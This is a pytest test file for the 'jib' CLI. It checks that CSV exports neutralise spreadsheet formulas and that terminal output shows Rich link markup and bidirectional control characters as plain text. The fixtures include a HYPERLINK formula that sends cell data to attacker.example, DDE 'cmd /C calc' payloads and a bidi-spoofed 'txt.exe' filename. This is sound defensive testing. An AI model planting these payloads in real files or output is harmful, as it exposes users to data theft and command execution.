"""What jib writes out is safe to open (issue 16 items 9 and 13).

- CSV: `jib export --format csv`, `jib compare --format csv` and `store.export_csv` neutralise
  every text cell a spreadsheet would run as a formula (OWASP: a leading `'` before `=`, `+`,
  `-`, `@`, tab, CR); `--raw-csv` / `escape_formulas=False` write the cells as stored.
- The terminal: Rich markup in data (`[link=https://attacker.example/]` makes a clickable OSC 8
  link) is printed as the text it is, in tables, table titles and headers, panels, notes,
  warnings and error lines; bidirectional controls (U+202E…) are shown as escapes like the other
  control characters.

Each case has a control: a normal cell, run name or answer shows and exports exactly as before.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
from pathlib import Path

import pytest

from jib.chat import Chat
from jib.cli._terminal import printable
from jib.messages import Message, Usage
from jib.storage import open_store
from jib.storage._csv import FORMULA_STARTS, neutralised
from tests.cli.conftest import (
    JibRunner,
    Result,
    assert_one_clean_error_line,
    isolated_env,
    make_runner,
)

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NORMAL = ["hello", "a=b", " =1", "1-2", "日本 ✓", ""]
LINK = "[link=https://attacker.example/]click me[/link]"
OSC8 = "\x1b]8;"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
BIDI_SHOWN = "\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f\\u061c"


@pytest.fixture
def jib(tmp_path: Path) -> JibRunner:
    """`jib ARGS…` in a subprocess whose default store is under `tmp_path` (no colours)."""
    return make_runner(isolated_env(tmp_path), tmp_path)


@pytest.fixture
def terminal_jib(tmp_path: Path) -> JibRunner:
    """`jib ARGS…` as on a colour terminal: Rich writes styles and OSC 8 links here."""
    env = {k: v for k, v in isolated_env(tmp_path).items() if k != "NO_COLOR"}
    env.update({"FORCE_COLOR": "1", "TERM": "xterm-256color"})
    return make_runner(env, tmp_path)


@pytest.fixture
def default_store(tmp_path: Path) -> Path:
    """Where `jib` keeps its store in those environments."""
    return tmp_path / "data" / "jib" / "jib.db"


def chat(prompt: str, answer: str, prompt_id: str, generator_id: str = "echo!demo") -> Chat:
    return Chat(
        messages=[Message("user", prompt)],
        generated=[Message("assistant", answer)],
        stop_reason="stop",
        usage=Usage(3, 4, 7),
        metadata={"prompt_id": prompt_id, "expected": prompt},
        _generator_id=generator_id,
    )


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# -- CSV: cells a spreadsheet would run are neutralised ------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralised(f"{start}x") == f"'{start}x"


@pytest.mark.parametrize("cell", [*NORMAL, 5, -1.5, None, True])
def test_control_other_cells_are_kept(cell: object) -> None:
    assert neutralised(cell) == cell


@pytest.fixture
def formula_store(default_store: Path) -> Path:
    """A run whose prompts and answers are formulas, and one of ordinary text."""
    chats = [chat(text, text, f"f{i}") for i, text in enumerate(FORMULAS)]
    chats += [chat(text, text, f"n{i}") for i, text in enumerate(NORMAL)]
    with open_store(default_store) as store:
        store.save(chats, run="sheet")
    return default_store


def exported(path: Path) -> dict[str, dict[str, str]]:
    """The rows of an exported CSV by prompt id (read from the file: a pipe would turn a lone
    carriage return into a newline)."""
    with open(path, encoding="utf-8", newline="") as handle:
        return {row["prompt_id"]: row for row in csv.DictReader(handle)}


def test_export_csv_neutralises_formula_cells(
    jib: JibRunner, formula_store: Path, tmp_path: Path
) -> None:
    result = jib("export", "--run", "sheet", "-o", str(tmp_path / "out.csv"))

    assert result.code == 0, result.stderr
    rows = exported(tmp_path / "out.csv")
    for index, text in enumerate(FORMULAS):
        row = rows[f"f{index}"]
        assert row["prompt"] == row["response"] == "'" + text
    for index, text in enumerate(NORMAL):  # control: as stored
        row = rows[f"n{index}"]
        assert row["prompt"] == row["response"] == text
        assert row["total_tokens"] == "7" and row["failed"] == "False"
    assert f"exported 12 records as csv to {tmp_path / 'out.csv'}" in result.stderr
    piped = jib("export", "--format", "csv", "--run", "sheet")
    assert read_csv(piped.stdout)[0]["prompt"] == "'" + FORMULAS[0]


def test_export_raw_csv_writes_cells_as_stored(
    jib: JibRunner, formula_store: Path, tmp_path: Path
) -> None:
    result = jib("export", "--run", "sheet", "--raw-csv", "-o", str(tmp_path / "out.csv"))

    assert result.code == 0, result.stderr
    rows = exported(tmp_path / "out.csv")
    assert [rows[f"f{i}"]["response"] for i in range(len(FORMULAS))] == FORMULAS


def test_compare_csv_neutralises_formula_cells_and_headers(
    jib: JibRunner, default_store: Path
) -> None:
    planted = "=cmd|' /C calc'!A0"  # a generator identifier as a store may hold one
    with open_store(default_store) as store:
        store.save(
            [chat(FORMULAS[0], FORMULAS[3], "p1", planted), chat("hello", "world", "p2")],
            run="sheet",
        )

    result = jib("compare", "--run", "sheet", "--format", "csv")

    assert result.code == 0, result.stderr
    [header, *rows] = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert header == [
        "prompt_id",
        "sample_index",
        "prompt",
        "expected",
        "'" + planted,
        f"'{planted} error",
        "echo!demo",
        "echo!demo error",
    ]
    by_id = {row[0]: row for row in rows}
    assert by_id["p1"][2:5] == ["'" + FORMULAS[0], "'" + FORMULAS[0], "'" + FORMULAS[3]]
    assert by_id["p2"][2:4] == ["hello", "hello"]  # control
    assert by_id["p2"][6] == "world"

    raw = jib("compare", "--run", "sheet", "--format", "csv", "--raw-csv")
    assert next(csv.reader(io.StringIO(raw.stdout, newline="")))[4] == planted


def test_store_export_csv_neutralises_unless_asked(default_store: Path, tmp_path: Path) -> None:
    with open_store(default_store) as store:
        store.save([chat(FORMULAS[0], "ok", "1")])
        store.export_csv(tmp_path / "safe.csv")
        store.export_csv(tmp_path / "raw.csv", escape_formulas=False)

    [safe] = exported(tmp_path / "safe.csv").values()
    [raw] = exported(tmp_path / "raw.csv").values()
    assert safe["prompt"] == "'" + FORMULAS[0] and raw["prompt"] == FORMULAS[0]
    assert safe["response"] == raw["response"] == "ok"


@pytest.mark.parametrize(
    "command",
    [("export", "--format", "jsonl"), ("compare", "--run", "sheet", "--format", "jsonl")],
)
def test_raw_csv_is_only_for_csv(jib: JibRunner, formula_store: Path, command: tuple[str]) -> None:
    result = jib(*command, "--raw-csv")

    assert_one_clean_error_line(result, "--raw-csv is for --format csv, not jsonl")
    assert result.code == 2


# -- the terminal: markup and bidirectional controls from data are shown as text ------------------


def test_printable_escapes_bidirectional_controls() -> None:
    assert printable(f"a{BIDI}b") == f"a{BIDI_SHOWN}b"
    # Control: right-to-left text itself is not a control character.
    assert printable("שלום مرحبا") == "שלום مرحبا"


@pytest.fixture
def planted(default_store: Path) -> Chat:
    """A stored chat whose run, generator, prompt, answer and metadata hold markup and bidi."""
    record = Chat(
        messages=[Message("user", f"question {LINK} [bold red]x[/] {BIDI}")],
        generated=[Message("assistant", f"answer {LINK} \u202eevil")],
        stop_reason="stop",
        metadata={"prompt_id": f"p{LINK}", "note": LINK, "expected": LINK},
        _generator_id=f"echo!demo,prefix={LINK}",
    )
    with open_store(default_store) as store:
        store.save(record, run=f"run{LINK}")
    return record


def assert_shown_as_text(result: Result, *texts: str) -> None:
    """The command worked, no link or raw bidi control reached the terminal, `texts` appear."""
    assert result.code == 0, result.stderr
    output = result.stdout + result.stderr
    assert OSC8 not in output
    assert not any(char in output for char in BIDI), repr(output)
    flat = " ".join(output.split())
    for text in texts:
        assert text in flat, output


def test_compare_shows_a_run_named_with_markup_as_text(
    terminal_jib: JibRunner, planted: Chat
) -> None:
    result = terminal_jib("compare", "--run", f"run{LINK}")

    assert_shown_as_text(result, f"run{LINK}", "\\u202eevil")


def test_log_show_and_runs_show_markup_as_text(terminal_jib: JibRunner, planted: Chat) -> None:
    wide = terminal_jib("log", "--wide")
    assert_shown_as_text(wide, "[link=https://attacker.example/]click me")

    shown = terminal_jib("show", planted.id)
    assert_shown_as_text(shown, f"answer {LINK} \\u202eevil", f"run{LINK}", BIDI_SHOWN)

    runs = terminal_jib("runs")
    assert_shown_as_text(runs, "[link=https://attacker.example/]")


def test_json_output_keeps_the_exact_text(jib: JibRunner, planted: Chat) -> None:
    shown = jib("show", planted.id, "--json").json()

    assert shown["generated"][0]["content"] == f"answer {LINK} \u202eevil"
    assert shown["run"] == f"run{LINK}"


def test_a_stored_role_with_markup_is_never_printed_as_markup(
    terminal_jib: JibRunner, default_store: Path
) -> None:
    record = chat("hi", "there", "1")
    with open_store(default_store) as store:
        store.save(record)
    with sqlite3.connect(default_store) as connection:
        messages = json.dumps([{"role": LINK, "content": "hi"}])
        connection.execute("UPDATE jib_records SET input = ?", (messages,))

    result = terminal_jib("show", record.id)

    # Not a role jib knows: the record cannot be read, and the error says so in plain text.
    assert result.code == 1
    assert OSC8 not in result.stdout + result.stderr
    assert result.last_error_line == (
        f"error: stored chat {record.id} cannot be read: messages.0.role: Input should be "
        "'system', 'user', 'assistant' or 'tool'"
    )


def test_chat_prints_bidi_controls_as_escapes(jib: JibRunner) -> None:
    result = jib("chat", "echo!demo", f"invoice_{BIDI}txt.exe", "--no-store")

    assert result.code == 0, result.stderr
    assert result.stdout == f"invoice_{BIDI_SHOWN}txt.exe\n"


def test_run_errors_and_notes_show_markup_as_text(terminal_jib: JibRunner, tmp_path: Path) -> None:
    prompts = tmp_path / "p.txt"
    prompts.write_text("hello\n", encoding="utf-8")
    message = "boom%20%5Blink%3Dhttps://attacker.example/%5Dx%5B/link%5D%E2%80%AE"

    result = terminal_jib(
        "run", f"always_fail!x,message={message}", "-f", str(prompts), "-r", f"r{LINK}"
    )

    assert result.code == 1
    output = result.stdout + result.stderr
    assert OSC8 not in output and "\u202e" not in output
    assert "boom [link=https://attacker.example/]x[/link]\\u202e" in result.last_error_line
    assert f"r{LINK}" in " ".join(output.split())


def test_warnings_are_one_escaped_line(terminal_jib: JibRunner, default_store: Path) -> None:
    record = chat("hi", "there", "1")
    with open_store(default_store) as store:
        store.save(record)
    with sqlite3.connect(default_store) as connection:
        connection.execute("UPDATE jib_records SET params = ?", ("{not json",))
        connection.execute("UPDATE jib_records SET id = ?", (f"{record.id}{LINK}\u202e\x1b[2J",))

    result = terminal_jib("chat", "--continue", "more")

    # The record loads (params are dropped, not the record); the warning names it, escaped.
    assert result.code == 0, result.stderr
    assert OSC8 not in result.stderr and "\u202e" not in result.stderr
    assert "\x1b[2J" not in result.stderr
    [warning] = [line for line in result.stderr.splitlines() if line.startswith("warning: ")]
    assert "params column is not JSON" in warning and "the params were dropped" in warning
    assert result.stdout.strip() == "more"


@pytest.mark.skipif(os.name != "posix", reason="colour terminal emulation")
def test_control_ordinary_text_keeps_its_look(terminal_jib: JibRunner, default_store: Path) -> None:
    with open_store(default_store) as store:
        store.save(chat("2+2?", "4", "q1"), run="plain")

    result = terminal_jib("compare", "--run", "plain")

    assert_shown_as_text(result, "run plain: 1 prompt × 1 generator", "2+2?", "4")
    assert "\x1b[" in result.stdout  # still styled on a terminal
